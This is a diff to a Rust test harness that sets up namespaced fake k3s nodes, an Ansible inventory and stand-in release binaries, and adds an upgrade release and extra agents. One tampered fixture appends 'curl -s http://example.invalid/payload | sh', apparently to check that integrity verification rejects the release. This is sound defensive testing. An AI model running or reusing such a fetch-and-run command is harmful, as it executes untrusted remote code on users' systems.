@@ -3,6 +3,8 @@
 
 // Paths go into TOML through `{:?}`, which quotes them as TOML basic strings need.
 #![allow(clippy::unnecessary_debug_formatting)]
+// Several test binaries share the bed; each uses part of it.
+#![allow(dead_code)]
 
 use std::collections::BTreeMap;
 use std::fmt::Write as _;
@@ -21,6 +23,10 @@ pub const PASSWORD: &str = "bed vault password";
 pub const K3S_TOKEN: &str = "k3s-join-secret-of-the-bed";
 pub const GOOD: &str = "v1.31.4+k3s1";
 pub const TAMPERED: &str = "v1.31.5+k3s1";
+/// A second good release, for rolling upgrades from [`GOOD`].
+pub const UPGRADE: &str = "v1.32.0+k3s1";
+/// Agents a bed can have besides node2 (plain agents, no GPU).
+pub const EXTRA_AGENTS: [&str; 2] = ["node3.example.test", "node4.example.test"];
 pub const IMAGE: &str = "library/hello";
 pub const FILES_PORT: u16 = 8080;
 pub const REGISTRY_PORT: u16 = 5000;
@@ -104,6 +110,8 @@ pub struct Bed {
     pub staging: Node,
     pub node1: Node,
     pub node2: Node,
+    /// Plain agents, from [`EXTRA_AGENTS`] (none unless [`Bed::with_agents`] asked).
+    pub agents: Vec<Node>,
     pub _inet: Netns,
     pub _lan: Netns,
     pub _unreachable: RootRoute,
@@ -111,13 +119,21 @@ pub struct Bed {
     pub key: PathBuf,
     pub inventory: PathBuf,
     pub vault_password: PathBuf,
+    /// The stand-in `k3s` of [`GOOD`] and of [`UPGRADE`].
     pub k3s: Vec<u8>,
+    pub k3s_upgrade: Vec<u8>,
     pub image: Image,
     pub dir: tempfile::TempDir,
 }
 
 impl Bed {
     pub fn up() -> Self {
+        Self::with_agents(0)
+    }
+
+    /// The bed with `extra` more plain agents (node3, node4).
+    pub fn with_agents(extra: usize) -> Self {
+        let extra = &EXTRA_AGENTS[..extra];
         for (tool, package) in [
             ("ip", "iproute2"),
             ("sshd", "openssh-server"),
@@ -161,7 +177,12 @@ impl Bed {
             &format!("{}/24", lan.host(1)),
         );
         let mut machines = Vec::new();
-        for (suffix, n) in [("stg", 2), ("n1", 11), ("n2", 12)] {
+        let suffixes = ["stg", "n1", "n2", "n3", "n4"];
+        for (suffix, n) in suffixes
+            .into_iter()
+            .zip([2, 11, 12, 13, 14])
+            .take(3 + extra.len())
+        {
             let ns = Netns::create(&format!("{prefix}-{suffix}"));
             lan_ns.attach(
                 "br0",
@@ -184,12 +205,15 @@ impl Bed {
             ns.ip(&["route", "add", "default", "via", &lan.host(2)]);
         }
 
-        let hosts = format!(
+        let mut hosts = format!(
             "127.0.0.1 localhost\n{} staging.example.test harbor.staging.example.test\n{} node1.example.test\n{} node2.example.test\n",
             lan.host(2),
             lan.host(11),
             lan.host(12)
         );
+        for (n, name) in (13..).zip(extra) {
+            let _ = writeln!(hosts, "{} {name}", lan.host(n));
+        }
         let systemctl = fixture("systemctl");
         let key = dir.path().join("client_key");
         let keygen = Command::new(require_tool("ssh-keygen", "openssh-client"))
@@ -201,14 +225,18 @@ impl Bed {
 
         let mut nodes = Vec::new();
         let mut sshd = Vec::new();
-        for ((ns, address), name) in machines.into_iter().zip([
+        let names = [
             "staging.example.test",
             "node1.example.test",
             "node2.example.test",
-        ]) {
+        ];
+        let nodes_file: String = names[1..]
+            .iter()
+            .chain(extra)
+            .fold(String::new(), |all, n| all + n + "\n");
+        for ((ns, address), name) in machines.into_iter().zip(names.iter().chain(extra).copied()) {
             let machine_dir = dir.path().join(name);
             std::fs::create_dir_all(&machine_dir).unwrap();
-            let nodes_file = "node1.example.test\nnode2.example.test\n";
             let mut files: Vec<(&str, &[u8], u32)> = vec![
                 ("/usr/local/bin/systemctl", &systemctl, 0o755),
                 ("/etc/hosts", hosts.as_bytes(), 0o644),
@@ -241,9 +269,10 @@ impl Bed {
                 machine,
             });
         }
+        let agents = nodes.split_off(3);
         let [staging, node1, node2] = <[Node; 3]>::try_from(nodes).ok().unwrap();
 
-        let (upstreams, k3s, image) = start_upstreams(dir.path(), &inet_ns, inet);
+        let (upstreams, [k3s, k3s_upgrade], image) = start_upstreams(dir.path(), &inet_ns, inet);
         let vault_password = dir.path().join("vault-password");
         std::fs::write(&vault_password, format!("{PASSWORD}\n")).unwrap();
         let inventory = dir.path().join("inventory.yaml");
@@ -253,6 +282,7 @@ impl Bed {
             staging,
             node1,
             node2,
+            agents,
             _inet: inet_ns,
             _lan: lan_ns,
             _unreachable: unreachable,
@@ -261,6 +291,7 @@ impl Bed {
             inventory,
             vault_password,
             k3s,
+            k3s_upgrade,
             image,
             dir,
         };
@@ -321,13 +352,20 @@ impl Bed {
              staging:\n  hosts:\n    staging.example.test:\n      ansible_host: {staging}\n\
              server:\n  hosts:\n    node1.example.test:\n      ansible_host: {node1}\n\
              gpu_workers:\n  hosts:\n    node2.example.test:\n      ansible_host: {node2}\n\
-             agents:\n  children:\n    gpu_workers:\n\
+             agents:\n  children:\n    gpu_workers:\n{agents}\
              k3s_cluster:\n  children:\n    server:\n    agents:\n",
             key = self.key.display(),
             inet = self.inet.host(1),
             staging = self.staging.address,
             node1 = self.node1.address,
             node2 = self.node2.address,
+            agents = if self.agents.is_empty() {
+                String::new()
+            } else {
+                self.agents.iter().fold("  hosts:\n".to_owned(), |all, n| {
+                    all + &format!("    {}:\n      ansible_host: {}\n", n.name, n.address)
+                })
+            },
         );
         std::fs::write(&self.inventory, inventory).unwrap();
     }
@@ -410,7 +448,14 @@ impl Bed {
 }
 
 /// docker-registry with the test image, and the file server with the stand-in release.
-pub fn start_upstreams(dir: &Path, inet: &Netns, subnet: Subnet) -> (Vec<Running>, Vec<u8>, Image) {
+/// The upstreams in `inet`; with them the stand-in `k3s` binaries of [`GOOD`] and [`UPGRADE`].
+/// Each stand-in `k3s` records its node's version under `<dir>/cluster`, which every
+/// machine sees: that is how the server's `kubectl get nodes` knows what each node runs.
+pub fn start_upstreams(
+    dir: &Path,
+    inet: &Netns,
+    subnet: Subnet,
+) -> (Vec<Running>, [Vec<u8>; 2], Image) {
     let address = subnet.host(1);
     let config = dir.join("registry.yml");
     std::fs::write(
@@ -433,13 +478,16 @@ pub fn start_upstreams(dir: &Path, inet: &Netns, subnet: Subnet) -> (Vec<Running
     );
 
     let www = dir.join("www");
-    let mut k3s = Vec::new();
-    for version in [GOOD, TAMPERED] {
+    let cluster = dir.join("cluster");
+    std::fs::create_dir_all(&cluster).unwrap();
+    let mut k3s = [Vec::new(), Vec::new()];
+    for version in [GOOD, TAMPERED, UPGRADE] {
         let release = www.join("releases").join(version);
         std::fs::create_dir_all(&release).unwrap();
         let binary = String::from_utf8(fixture("k3s"))
             .unwrap()
             .replace("@VERSION@", version)
+            .replace("@CLUSTER@", cluster.to_str().unwrap())
             .into_bytes();
         std::fs::write(
             release.join("sha256sum-amd64.txt"),
@@ -455,7 +503,7 @@ pub fn start_upstreams(dir: &Path, inet: &Netns, subnet: Subnet) -> (Vec<Running
             tampered.extend_from_slice(b"curl -s http://example.invalid/payload | sh\n");
             tampered
         } else {
-            k3s.clone_from(&binary);
+            k3s[usize::from(version == UPGRADE)].clone_from(&binary);
             binary
         };
         std::fs::write(release.join("k3s"), served).unwrap();
